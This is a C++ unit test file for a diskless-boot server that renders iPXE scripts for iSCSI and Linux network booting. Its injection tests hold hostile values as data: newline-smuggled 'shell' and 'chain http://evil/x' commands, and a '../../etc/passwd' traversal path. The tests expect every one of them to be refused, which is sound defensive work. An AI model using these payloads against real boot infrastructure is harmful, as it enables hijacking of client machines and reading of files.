#include "boot/script.hpp"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

namespace diskless::boot {
namespace {

using inventory::boot_method;
using inventory::unknown_policy;

mac_address mac(std::string_view s) {
  return *mac_address::parse(s);
}

inventory::inventory make_inventory() {
  inventory::inventory inv;
  inv.server.address = ipv4_address::parse("10.77.0.1");
  inv.server.iscsi.iqn = "iqn.2026-11.lan.diskless";
  inv.server.http.enabled = false;  // files over TFTP; LinuxOverHttp turns it on
  inventory::image win;
  win.name = "win10-lab";
  win.disk = "images/win10-lab.img";
  inventory::image deb;
  deb.name = "debian";
  deb.kernel = "/srv/debian/vmlinuz";
  deb.initrd = "kernels/initrd.img";
  deb.cmdline = "console=ttyS0 quiet";
  deb.disk = "images/debian.img";
  deb.root_partition = 2;
  deb.rootfstype = "xfs";
  inventory::image bare;
  bare.name = "bare";
  bare.kernel = "/srv/bare/vmlinuz";
  inv.images = {win, deb, bare};
  auto host = [&](std::string_view m, std::string name, std::string image, boot_method b) {
    inventory::host h;
    h.mac = mac(m);
    h.name = std::move(name);
    h.image = std::move(image);
    h.boot = b;
    inv.hosts.push_back(h);
  };
  host("52:54:00:12:34:01", "lab-01", "win10-lab", boot_method::sanboot);
  host("52:54:00:12:34:02", "lab-02", "debian", boot_method::linux);
  host("52:54:00:12:34:03", "lab-03", "debian", boot_method::iscsi_root);
  host("52:54:00:12:34:04", "lab-04", "", boot_method::local);
  host("52:54:00:12:34:05", "lab-05", "win10-lab", boot_method::menu);
  host("52:54:00:12:34:06", "lab-06", "bare", boot_method::linux);
  inv.base_dir = "/nonexistent-diskless-base";
  return inv;
}

std::string script(const inventory::inventory& inv, std::string_view m) {
  auto r = script_for(inv, template_set(), mac(m));
  EXPECT_TRUE(r) << r.error_message();
  if (!r || !*r) return {};
  return **r;
}

bool has(const std::string& s, std::string_view part) {
  return s.find(part) != std::string::npos;
}

TEST(Script, BuiltinTemplatesAllExistAndAreIpxe) {
  for (auto name : template_names) {
    EXPECT_TRUE(builtin_template(name).starts_with("#!ipxe\n")) << name;
  }
  EXPECT_TRUE(builtin_template("nope").empty());
}

TEST(Script, Sanboot) {
  auto s = script(make_inventory(), "52:54:00:12:34:01");
  EXPECT_TRUE(s.starts_with("#!ipxe\n"));
  EXPECT_TRUE(has(s, "\nset initiator-iqn iqn.2026-11.lan.diskless:initiator:lab-01\n")) << s;
  EXPECT_TRUE(has(s, "\nsanboot iscsi:10.77.0.1::::iqn.2026-11.lan.diskless:lab-01 ")) << s;
  EXPECT_TRUE(has(s, "\nset username \n")) << s;  // empty: clears the setting
  EXPECT_FALSE(has(s, "{{"));
  // set initiator-iqn comes before sanboot.
  EXPECT_LT(s.find("set initiator-iqn"), s.find("\nsanboot"));
}

TEST(Script, SanbootWithChapAndOtherPort) {
  auto inv = make_inventory();
  inv.server.iscsi.port = 3261;
  inv.hosts[0].chap = inventory::chap_credentials{"lab01", "secret-123456", "tgt", "rsecret-12345"};
  auto s = script(inv, "52:54:00:12:34:01");
  EXPECT_TRUE(has(s, "\nsanboot iscsi:10.77.0.1::3261::iqn.2026-11.lan.diskless:lab-01 ")) << s;
  EXPECT_TRUE(has(s, "\nset username lab01\n"));
  EXPECT_TRUE(has(s, "\nset password secret-123456\n"));
  EXPECT_TRUE(has(s, "\nset reverse-username tgt\n"));
  EXPECT_TRUE(has(s, "\nset reverse-password rsecret-12345\n"));
}

TEST(Script, Linux) {
  auto s = script(make_inventory(), "52-54-00-12-34-02");
  EXPECT_TRUE(has(s,
                  "\nkernel tftp://10.77.0.1/images/debian/vmlinuz initrd=initrd "
                  "console=ttyS0 quiet "))
      << s;
  EXPECT_TRUE(has(s, "\nisset tftp://10.77.0.1/images/debian/initrd || goto boot\n")) << s;
  EXPECT_TRUE(has(s, "\ninitrd --name initrd tftp://10.77.0.1/images/debian/initrd ")) << s;
  EXPECT_TRUE(has(s, "\nboot "));
}

// With the HTTP service on, kernels and initrds (script and menu) are HTTP URLs on its port.
TEST(Script, LinuxOverHttp) {
  auto inv = make_inventory();
  inv.server.http.enabled = true;
  inv.server.http.port = 8081;
  auto s = script(inv, "52-54-00-12-34-02");
  EXPECT_TRUE(has(s, "\nkernel http://10.77.0.1:8081/images/debian/vmlinuz initrd=initrd ")) << s;
  EXPECT_TRUE(has(s, "\ninitrd --name initrd http://10.77.0.1:8081/images/debian/initrd ")) << s;
  EXPECT_FALSE(has(s, "tftp://")) << s;
  s = script(inv, "52:54:00:12:34:05");
  EXPECT_TRUE(has(s, "\n:img-debian\nkernel http://10.77.0.1:8081/images/debian/vmlinuz ")) << s;
  // Without a configured address iPXE's next-server stands in, in HTTP URLs too.
  inv.server.address.reset();
  s = script(inv, "52-54-00-12-34-02");
  EXPECT_TRUE(has(s, "\nkernel http://${next-server}:8081/images/debian/vmlinuz ")) << s;
}

TEST(Script, LinuxWithoutInitrdSkipsIt) {
  auto s = script(make_inventory(), "52:54:00:12:34:06");
  EXPECT_TRUE(has(s, "\nisset  || goto boot\n")) << s;  // isset of nothing is false in iPXE
}

TEST(Script, IscsiRootCarriesBothInitramfsForms) {
  auto inv = make_inventory();
  inv.hosts[2].chap = inventory::chap_credentials{"u3", "s3-secret-123", "", ""};
  auto s = script(inv, "52:54:00:12:34:03");
  const std::string t = "iqn.2026-11.lan.diskless:lab-03";
  const std::string i = "iqn.2026-11.lan.diskless:initiator:lab-03";
  for (const std::string& part :
       {" iscsi_initiator=" + i + " ", " iscsi_target_name=" + t + " ",
        std::string(" iscsi_target_ip=10.77.0.1 "), std::string(" iscsi_target_port=3260 "),
        std::string(" iscsi_username=u3 iscsi_password=s3-secret-123 "),
        " rd.iscsi.initiator=" + i + " ",
        " netroot=iscsi:u3:s3-secret-123@10.77.0.1::3260::" + t + " ",
        std::string(" root=/dev/sda2 "), std::string(" rootfstype=xfs "),
        std::string(" console=ttyS0 quiet ")})
    EXPECT_TRUE(has(s, part)) << "missing '" << part << "' in\n" << s;
  EXPECT_FALSE(has(s, "iscsi_in_username"));
  // The iBFT path: sanhook of the host's target, with its CHAP user, before the kernel.
  EXPECT_TRUE(has(s, "\nset username u3\n")) << s;
  const auto hook = s.find("\nsanhook iscsi:10.77.0.1::::" + t + " ");
  EXPECT_NE(hook, std::string::npos) << s;
  EXPECT_LT(hook, s.find("\nkernel ")) << s;
}

TEST(Script, IscsiRootWithoutChapHasNoCredentials) {
  auto s = script(make_inventory(), "52:54:00:12:34:03");
  const auto kernel = s.substr(s.find("\nkernel "));
  EXPECT_FALSE(has(kernel.substr(0, kernel.find('\n', 1)), "iscsi_username")) << s;
  EXPECT_TRUE(has(s, " netroot=iscsi:10.77.0.1::3260::iqn.2026-11.lan.diskless:lab-03 ")) << s;
}

TEST(Script, LocalExits) {
  auto s = script(make_inventory(), "52:54:00:12:34:04");
  EXPECT_TRUE(has(s, "\nexit\n")) << s;
  EXPECT_FALSE(has(s, "sanboot"));
}

TEST(Script, MenuListsImages) {
  auto s = script(make_inventory(), "52:54:00:12:34:05");
  EXPECT_TRUE(has(s, "\nitem disk win10-lab ")) << s;
  EXPECT_TRUE(has(s, "\nitem img-debian debian (Linux)\n")) << s;
  EXPECT_TRUE(has(s, "\nitem img-bare bare (Linux)\n")) << s;
  EXPECT_FALSE(has(s, "item img-win10-lab"));  // no kernel
  EXPECT_TRUE(has(s, "\n:img-debian\nkernel tftp://10.77.0.1/images/debian/vmlinuz ")) << s;
  EXPECT_TRUE(has(s, "\n:disk\nset initiator-iqn iqn.2026-11.lan.diskless:initiator:lab-05\n"));
  EXPECT_TRUE(has(s, "\nsanboot iscsi:10.77.0.1::::iqn.2026-11.lan.diskless:lab-05 "));
}

TEST(Script, UnknownMacFollowsPolicy) {
  auto inv = make_inventory();
  const auto stranger = mac("02:00:00:00:00:99");
  inv.unknown.what = unknown_policy::kind::ignore;
  auto r = script_for(inv, template_set(), stranger);
  ASSERT_TRUE(r);
  EXPECT_FALSE(*r);

  inv.unknown.what = unknown_policy::kind::local;
  auto s = script(inv, "02:00:00:00:00:99");
  EXPECT_TRUE(has(s, "\nexit\n")) << s;
  EXPECT_TRUE(has(s, "unknown-02-00-00-00-00-99"));

  inv.unknown.what = unknown_policy::kind::menu;
  s = script(inv, "02:00:00:00:00:99");
  EXPECT_TRUE(has(s, "\nitem img-debian ")) << s;
  EXPECT_FALSE(has(s, "item disk")) << s;  // an unknown PC has no target

  inv.unknown.what = unknown_policy::kind::image;
  inv.unknown.image = "debian";
  s = script(inv, "02:00:00:00:00:99");
  EXPECT_TRUE(has(s, "\nkernel tftp://10.77.0.1/images/debian/vmlinuz ")) << s;

  inv.unknown.image = "win10-lab";  // no kernel: the loader refuses it; we do too
  EXPECT_FALSE(script_for(inv, template_set(), stranger));
}

TEST(Script, NoServerAddressUsesNextServer) {
  auto inv = make_inventory();
  inv.server.address.reset();
  auto s = script(inv, "52:54:00:12:34:01");
  EXPECT_TRUE(has(s, "sanboot iscsi:${next-server}::::iqn.2026-11.lan.diskless:lab-01")) << s;
}

TEST(Lookup, ScriptsByDashedMac) {
  auto inv = make_inventory();
  template_set t;
  EXPECT_EQ(script_path(mac("52:54:00:12:34:01")), "boot/52-54-00-12-34-01.ipxe");
  for (std::string_view p : {"boot/52-54-00-12-34-01.ipxe", "/boot/52-54-00-12-34-01.ipxe",
                             "boot/52-54-00-12-34-01.ipxe"}) {
    auto r = lookup(inv, t, p);
    ASSERT_TRUE(r) << r.error_message();
    ASSERT_TRUE(*r) << p;
    EXPECT_TRUE((*r)->is_script());
    EXPECT_TRUE(has((*r)->content, "sanboot iscsi:10.77.0.1::::"));
  }
  // Upper case dashed MAC is the same host.
  auto up = lookup(inv, t, "boot/52-54-00-AB-34-01.ipxe");
  ASSERT_TRUE(up);
  EXPECT_FALSE(*up);  // unknown (ignore)
  for (std::string_view p :
       {"boot/52:54:00:12:34:01.ipxe", "boot/525400123401.ipxe", "boot/52-54-00-12-34-01.ipx",
        "boot/.ipxe", "boot/", "boot/52-54-00-12-34-01.ipxe/../x", "undionly.kpxe", "",
        "boot/zz-54-00-12-34-01.ipxe", "images/", "images/debian", "images/debian/",
        "images/debian/../../etc/passwd", "images/win10-lab/vmlinuz", "images/bare/initrd",
        "images/nope/vmlinuz"}) {
    auto r = lookup(inv, t, p);
    ASSERT_TRUE(r) << p;
    EXPECT_FALSE(*r) << p;
  }
}

TEST(Lookup, KernelAndInitrdFiles) {
  auto inv = make_inventory();
  template_set t;
  auto k = lookup(inv, t, "images/debian/vmlinuz");
  ASSERT_TRUE(k && *k);
  EXPECT_FALSE((*k)->is_script());
  EXPECT_EQ((*k)->path, std::filesystem::path("/srv/debian/vmlinuz"));
  auto i = lookup(inv, t, "/images/debian/initrd");
  ASSERT_TRUE(i && *i);
  EXPECT_EQ((*i)->path, std::filesystem::path("/nonexistent-diskless-base/kernels/initrd.img"));
}

class TemplateDir : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() /
           ("diskless-boot-test-" + std::to_string(::getpid()));
    std::filesystem::create_directories(dir_ / "templates");
    inv_ = make_inventory();
    inv_.base_dir = dir_;
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  void write(std::string_view name, std::string_view text) {
    std::ofstream(dir_ / "templates" / name) << text;
  }
  std::filesystem::path dir_;
  inventory::inventory inv_;
};

TEST_F(TemplateDir, OverrideIsUsed) {
  write("sanboot.ipxe", "#!ipxe\necho custom {{host}} {{target_iqn}}\n");
  auto r = script_for(inv_, mac("52:54:00:12:34:01"));
  ASSERT_TRUE(r && *r);
  EXPECT_EQ(**r, "#!ipxe\necho custom lab-01 iqn.2026-11.lan.diskless:lab-01\n");
  // The others stay built in.
  auto l = script_for(inv_, mac("52:54:00:12:34:04"));
  ASSERT_TRUE(l && *l);
  EXPECT_TRUE(has(**l, "\nexit\n"));
  EXPECT_TRUE(check_templates(inv_).empty());
}

TEST_F(TemplateDir, BrokenTemplateFailsLoudlyAndIsReported) {
  write("linux.ipxe", "#!ipxe\nkernel {{kernel_url}}\ninitrd {{initrd_link}}\nboot\n");
  write("local.ipxe", "exit {{host\n");
  auto t = template_set::load(template_set::dir_for(inv_));
  auto r = lookup(inv_, t, "boot/52-54-00-12-34-02.ipxe");
  ASSERT_FALSE(r);
  EXPECT_NE(r.error_message().find("linux.ipxe: line 3: unknown placeholder {{initrd_link}}"),
            std::string::npos)
      << r.error_message();
  // Hosts on other templates still boot.
  auto ok = lookup(inv_, t, "boot/52-54-00-12-34-01.ipxe");
  ASSERT_TRUE(ok && *ok);

  auto problems = check_templates(inv_, t);
  ASSERT_EQ(problems.size(), 3u);
  std::vector<std::string> lines;
  for (const auto& p : problems) lines.push_back(p.str());
  EXPECT_NE(problems[0].file.find("linux.ipxe"), std::string::npos);
  EXPECT_EQ(problems[0].line, 3);
  EXPECT_NE(problems[0].message.find("{{initrd_link}}"), std::string::npos) << lines[0];
  EXPECT_NE(problems[1].file.find("local.ipxe"), std::string::npos);
  EXPECT_EQ(problems[1].line, 1);
  EXPECT_NE(problems[1].message.find("#!ipxe"), std::string::npos) << lines[1];
  EXPECT_EQ(problems[2].line, 1);
  EXPECT_NE(problems[2].message.find("unterminated"), std::string::npos) << lines[2];
}

TEST(Check, BuiltinTemplatesAreClean) {
  auto problems = check_templates(make_inventory(), template_set());
  for (const auto& p : problems) ADD_FAILURE() << p.str();
}

// Values that reach a script unchecked (an inventory not built by the loader) must not become
// iPXE commands: the script is refused, not rendered.
TEST(Script, HostileValuesAreRefusedNotRendered) {
  const std::vector<std::string> hostile = {"quiet\nshell",   "quiet\r\nchain http://evil/x",
                                            "x=${net0/mac}",  "quiet || shell",
                                            "quiet && shell", "quiet #",
                                            "a\"b",           "tab\there"};
  for (const auto& cmdline : hostile) {
    auto inv = make_inventory();
    inv.images[1].cmdline = cmdline;
    auto r = script_for(inv, template_set(), mac("52:54:00:12:34:02"));
    ASSERT_FALSE(r) << cmdline << " rendered as:\n" << (r && *r ? **r : std::string());
    EXPECT_TRUE(has(r.error_message(), "cmdline of image 'debian'")) << r.error_message();
  }
  auto inv = make_inventory();
  inv.hosts[0].chap = inventory::chap_credentials{"user", "secret\nshell", "", ""};
  EXPECT_FALSE(script_for(inv, template_set(), mac("52:54:00:12:34:01")));
  inv.hosts[0].chap = inventory::chap_credentials{"user", "${password}123", "", ""};
  EXPECT_FALSE(script_for(inv, template_set(), mac("52:54:00:12:34:01")));
}

TEST(Script, MenuLeavesOutImagesWithHostileValues) {
  auto inv = make_inventory();
  inv.images[2].cmdline = "quiet\nchain http://evil/x";
  auto s = script(inv, "52:54:00:12:34:05");
  EXPECT_TRUE(has(s, "img-debian")) << s;
  EXPECT_FALSE(has(s, "img-bare")) << s;
  EXPECT_FALSE(has(s, "evil")) << s;
}

TEST(Script, ServerSettingsInUrlsAreStillExpanded) {
  // ${next-server} is written by the renderer itself, not taken from an inventory value.
  auto inv = make_inventory();
  inv.server.address.reset();
  auto s = script(inv, "52:54:00:12:34:02");
  EXPECT_TRUE(has(s, "tftp://${next-server}/")) << s;
}

TEST(HttpUrl, NamesTheHttpAddressWhenOneIsSetElseTheServer) {
  auto inv = make_inventory();
  inv.server.http.port = 8081;
  EXPECT_EQ(http_url(inv, "boot/x.ipxe"), "http://10.77.0.1:8081/boot/x.ipxe");
  inv.server.http.address = ipv4_address::parse("10.77.0.2");
  EXPECT_EQ(http_url(inv, "boot/x.ipxe"), "http://10.77.0.2:8081/boot/x.ipxe");
  // 0.0.0.0 (every interface) is not an address a PC can reach: the server's stands for it.
  inv.server.http.address = ipv4_address::parse("0.0.0.0");
  EXPECT_EQ(http_url(inv, "boot/x.ipxe"), "http://10.77.0.1:8081/boot/x.ipxe");
}

}  // namespace
}  // namespace diskless::boot
